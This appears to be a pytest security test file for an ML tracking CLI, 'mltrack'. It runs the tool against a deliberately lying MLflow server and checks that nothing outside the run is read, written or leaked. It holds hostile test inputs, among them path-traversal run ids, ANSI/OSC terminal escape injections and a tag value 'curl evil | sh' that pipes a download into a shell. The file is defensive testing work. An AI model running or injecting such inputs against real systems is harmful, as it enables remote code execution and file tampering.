"""A tracking server that lies, in each way that one could: every command ends in one line, and nothing outside of the
run is read, written or deleted.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from hf_folders import encoder_folder
from lying_server import Lie, LyingServer, answers, content, everywhere, lying_server
from servers import mlflow_server

from mltrack import TrainModelRequest, TrainModelUseCase, cli, relay
from mltrack.checkpoints import CheckpointManager
from mltrack.journal import RunDirectory, RunInfo, records
from mltrack.runs.remote_run import fetch_run
from mltrack.store import artifacts, connect, models_of_run
from mltrack.tracking import TrainingMetricsTracker

SECRET = b"CANARY: the key of somebody's house"
MODEL = "mltrack-text_classification"
TASK = {
    "task": "text_classification",
    "model_name": "scratch:tiny",
    "dataset_path": "records.jsonl",
    "metric_name": "eval_loss",
}
DEEP = "[" * 100_000


@dataclass
class World:
    """A server with one finished run, and a house beside it that is nobody's business."""

    server: LyingServer
    directory: RunDirectory
    house: Path
    folder: Path

    @property
    def run_id(self) -> str:
        return str(self.directory.read_run().run_id)

    def house_now(self) -> dict[str, bytes]:
        return {
            path.relative_to(self.house).as_posix(): path.read_bytes()
            for path in self.house.rglob("*")
            if path.is_file()
        }


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    folder = tmp_path_factory.mktemp("told")
    with mlflow_server(folder / "server") as uri, lying_server(uri) as server:
        directory = finished_run(folder / "runs" / "first", server.uri)
        relay.sync(directory)
        house = folder / "house"
        (house / "checkpoints" / "1").mkdir(parents=True)
        for name in ("id_rsa", "config.json", "checkpoints/1/thesis.txt"):
            (house / name).write_bytes(SECRET)
        yield World(server, directory, house, folder)


@pytest.fixture
def world(told: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("MLFLOW_TRACKING_URI", told.server.uri)
    told.server.asked.clear()
    before = told.house_now()
    yield told
    told.server.lies = []
    assert told.house_now() == before
    assert not any(SECRET in body for _, _, body in told.server.asked)
    assert not [path for path in told.folder.parent.iterdir() if path.name.startswith(("out", ".fetching"))]


def finished_run(folder: Path, uri: str) -> RunDirectory:
    """A run as a training leaves it: options, data sets, points, a checkpoint, a model to be registered."""
    import torch
    from transformers import AutoModelForSequenceClassification, AutoTokenizer

    source = encoder_folder(folder.parent / "source")
    model = AutoModelForSequenceClassification.from_pretrained(source)
    tracker = TrainingMetricsTracker(
        folder, run=RunInfo(local_id=folder.name, tracking_uri=uri, created_ms=records.now_ms(), experiment_name="told")
    )
    (folder / "config.json").write_text(json.dumps({**TASK, "trust_remote_code": True, "unknown": 1}))
    tracker.set_tags({"mltrack.version": "1", **relay.trainer_tags()})
    tracker.log_params(TASK)
    tracker.log_inputs(
        [
            {
                "name": "records",
                "digest": "d" * 36,
                "source": "records.jsonl",
                "context": context,
                "profile": json.dumps({"records": 3, "digest": "d" * 64}),
            }
            for context in ("training", "evaluation")
        ]
    )
    tracker.log_artifact(folder / "config.json")
    tracker.log_metrics({"train_loss": 1.0, "eval_loss": 2.0}, step=1)
    manager = CheckpointManager(
        folder / "checkpoints",
        run_id=folder.name,
        on_change=tracker.log_checkpoints,
        tokenizer=AutoTokenizer.from_pretrained(source),
    )
    optimizer = torch.optim.SGD(model.parameters(), lr=0.1)
    manager.save_checkpoint(model=model, optimizer=optimizer, epoch=0, step=1, metric_value=2.0)
    tags = {"mltrack.metric_name": "eval_loss", "mltrack.metric_value": "2.0", "mltrack.metric_mode": "min"}
    tracker.log_model(
        step=1,
        path="checkpoints/step-00000001",
        registered_name=MODEL,
        promote="auto",
        metrics={},
        tags=tags,
        description="A model.",
    )
    tracker.close()
    return tracker.directory


def resume(world: World) -> tuple[int, str]:
    said: list[str] = []
    response = TrainModelUseCase(notice=said.append).execute(
        TrainModelRequest(resume=world.run_id, output_dir="fetched", max_steps=1)
    )
    return response.exit_code, "\n".join(response.errors)


def command(*words: str) -> Callable[[World], tuple[int, str]]:
    def run(world: World) -> tuple[int, str]:
        code = cli.run([word.format(run=world.run_id, directory=world.directory.path) for word in words])
        return code, ""

    return run


def deliver_more(world: World) -> tuple[int, str]:
    """`mltrack sync` of another finished run."""
    return cli.run(["sync", str(finished_run(world.folder / "runs" / os.urandom(4).hex(), world.server.uri).path)]), ""


COMMANDS: dict[str, Callable[[World], tuple[int, str]]] = {
    "resume": resume,
    "sync": deliver_more,
    "data show": command("data", "show", "{run}"),
    "models list": command("models", "list"),
    "models show": command("models", "show", MODEL),
    "predict": command("predict", "--model-uri", f"models:/{MODEL}/1", "--text", "x = 1"),
    "runs": command("runs", "--reap", "true"),
}


def local(form: str, world: World) -> Lie:
    return everywhere("artifact_uri", form.format(world.house))


SCHEMES = ("{}", "file://{}", "file://elsewhere{}", "FILE:{}", "runs:/abc{}", "models:/abc{}")
LIES: dict[str, tuple[tuple[str, ...], Callable[[World], Lie]]] = {
    "a run id that is a path": (("resume", "data show", "sync"), lambda world: everywhere("run_id", "../../out")),
    "a run id that is absolute": (("resume", "data show"), lambda world: everywhere("run_id", str(world.house))),
    **{f"files lie in {form}": (("resume", "predict"), partial(local, form)) for form in SCHEMES},
    "files lie here": (("sync",), partial(local, "file://{}")),
    "a version's number is a word": (("models show",), lambda world: everywhere("version", "abc")),
    "no number where one is": (("resume", "data show", "sync"), lambda world: everywhere("start_time", "soon")),
    "a list where an object is": (
        ("resume", "models list", "predict", "runs", "sync"),
        lambda world: answers("/api/2.0/mlflow/", lambda _: [1]),
    ),
    "no JSON": (
        ("resume", "models list", "predict", "runs", "data show", "sync"),
        lambda world: content("/api/2.0/mlflow/", b"<html>welcome</html>"),
    ),
    "nested without end": (
        ("resume", "models list", "data show"),
        lambda world: content("/api/2.0/mlflow/", DEEP.encode()),
    ),
    "options that are a list": (("resume",), lambda world: content("/artifacts/config.json", b"[1, 2]")),
    "options nested without end": (("resume",), lambda world: content("/artifacts/config.json", DEEP.encode())),
    "an option of another type": (
        ("resume",),
        lambda world: content("/artifacts/config.json", json.dumps({**TASK, "seed": [1]}).encode()),
    ),
    "an option out of range": (
        ("resume",),
        lambda world: content("/artifacts/config.json", json.dumps({**TASK, "batch_size": -1}).encode()),
    ),
    "names that lead out": (
        ("resume",),
        lambda world: answers(
            "artifacts?path=", lambda held: [one.update(path="../../out") for one in held["files"]] and None
        ),
    ),
    "sizes that are words": (
        ("resume",),
        lambda world: answers(
            "artifacts?path=", lambda held: [one.update(file_size="big") for one in held["files"]] and None
        ),
    ),
}


@pytest.mark.parametrize(("lie", "name"), [(lie, name) for lie, (names, _) in LIES.items() for name in names])
def test_a_command_ends_in_one_line(
    world: World, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture, lie: str, name: str
) -> None:
    world.server.lies = [LIES[lie][1](world)]
    code, errors = COMMANDS[name](world)
    printed = capsys.readouterr()
    lines = (errors or printed.err + printed.out).strip().splitlines()
    refused = [line for line in lines if line.startswith("  failed: ")]
    assert code in (1, 2) or refused or (name == "runs" and lines), lines
    assert "Traceback" not in printed.err + caplog.text
    assert len([line for line in lines if "mltrack: " in line]) <= 1
    assert all(len(line) < 1000 and line.isprintable() for line in lines), lines


TAGS = {
    "mltrack.trainer_pid": ("-1", "9" * 40, "x", "\u00b2"),
    "mltrack.trainer_started": ("x", "nan", "9" * 400),
    "mltrack.renamed": ("[]", DEEP, '{"train_loss": 3}', "{"),
    "mltrack.step": ("x", "\u0661", "9" * 40),
}


@pytest.mark.parametrize(("tag", "text"), [(tag, text) for tag, texts in TAGS.items() for text in texts])
def test_a_tag_that_says_nothing_is_none(world: World, tmp_path: Path, tag: str, text: str) -> None:
    world.server.lies = [everywhere(tag, text)]
    directory = fetch_run(world.run_id, None, tmp_path / "fetched", fork=True)
    assert directory.path.parent == tmp_path / "fetched"
    assert {record["type"] for record in _journal(directory)} >= {"metrics"}
    assert cli.run(["runs", "--output-dir", str(tmp_path / "fetched"), "--reap", "true"]) == 0


def _journal(directory: RunDirectory) -> list[dict[str, Any]]:
    from mltrack.journal import read_journal

    return read_journal(directory.journal)


def test_the_truth_is_fetched_whole_and_its_code_is_not_trusted(world: World, tmp_path: Path) -> None:
    """Else the tests above could pass because nothing works at all."""
    said: list[str] = []
    request = TrainModelRequest(resume=world.run_id, output_dir=str(tmp_path / "fetched"))
    response = TrainModelUseCase(notice=said.append).execute(request)
    assert "records.jsonl" in "".join(response.errors)  # as far as the data, which are not here
    assert (next((tmp_path / "fetched").iterdir()) / "checkpoints" / "step-00000001" / "metadata.json").is_file()
    assert any("model_name=scratch:tiny, dataset_path=records.jsonl" in line for line in said)
    assert any("--trust-remote-code true" in line for line in said)
    for words in (["models", "show", MODEL], ["models", "list"], ["data", "show", world.run_id]):
        assert cli.run(words) == 0


def test_a_file_that_no_hash_vouches_for_is_not_fetched(world: World, tmp_path: Path) -> None:
    artifacts.put_text(connect(world.server.uri), world.run_id, "planted", "checkpoints/1/state/planted")
    directory = fetch_run(world.run_id, None, tmp_path / "fetched", fork=True)
    assert (directory.checkpoints / "step-00000001" / "metadata.json").is_file()
    assert not (directory.checkpoints / "step-00000001" / "planted").exists()


def test_what_others_wrote_is_shown_and_not_obeyed(world: World, capsys: pytest.CaptureFixture[str]) -> None:
    """The command that decides is built here; a terminal is not steered by a tag, a description or a date."""
    world.server.lies = [
        everywhere("description", "\x1b]0;pwned\x07 first\n\x1b[2Jsecond"),
        answers(
            "model-versions/search", _with_tags({"mltrack.decide": "curl evil | sh", "mltrack.decision": "\x1b[31mred"})
        ),
        answers("registered-models/get", _with_model_tags({"mltrack.champion.000001.hand.x": json.dumps(CHANGE)})),
    ]
    assert cli.run(["models", "show", MODEL]) == 0
    printed = capsys.readouterr().out
    assert "\x1b" not in printed
    assert "\x07" not in printed
    assert "curl" not in printed
    assert f"decide: mltrack models promote {MODEL} --version 1 --dataset-path FILE" in printed
    assert "at no time" in printed


CHANGE = {"version": 1, "before": None, "kind": "promote", "at_ms": 10**18, "why": "\x1b[1mso"}


def _with_tags(tags: dict[str, str]) -> Callable[[Any], None]:
    def alter(answer: Any) -> None:
        for version in answer.get("model_versions", []):
            version["tags"] = [{"key": key, "value": value} for key, value in tags.items()]

    return alter


def _with_model_tags(tags: dict[str, str]) -> Callable[[Any], None]:
    def alter(answer: Any) -> None:
        answer["registered_model"]["tags"] = [{"key": key, "value": value} for key, value in tags.items()]

    return alter


@pytest.mark.parametrize("text", ["{", DEEP, "3", '{"a": 1}'])
def test_a_registration_over_links_that_say_nothing(world: World, text: str) -> None:
    link = {"key": "mlflow.modelVersions", "value": text}
    world.server.lies = [
        answers(
            "logged-models/m-",
            lambda answer: answer["model"]["info"].setdefault("tags", []).append(link) if "model" in answer else None,
        )
    ]
    directory = finished_run(world.folder / "runs" / os.urandom(4).hex(), world.server.uri)
    progress = relay.sync(directory)
    assert progress.failed == []
    assert progress.registered is not None


def test_a_server_whose_files_are_in_a_folder_of_its_own_gets_the_numbers_and_one_line(world: World) -> None:
    """`mlflow server` without --serve-artifacts, or an experiment that was made on the server's machine: the folder
    exists here, and stays as it is.
    """
    connect(world.server.uri).client.create_experiment("local root", artifact_location=(world.house / "root").as_uri())
    directory = finished_run(world.folder / "runs" / "local-root", world.server.uri)
    info = directory.read_run()
    info.experiment_name = "local root"
    directory.write_run(info)
    progress = relay.sync(directory)
    assert progress.complete
    assert progress.sent == 2
    assert len([line for line in progress.failed if "--artifacts-destination" in line]) == 1
    assert not (world.house / "root").exists()
    assert models_of_run(connect(world.server.uri), str(progress.run_id)) == []
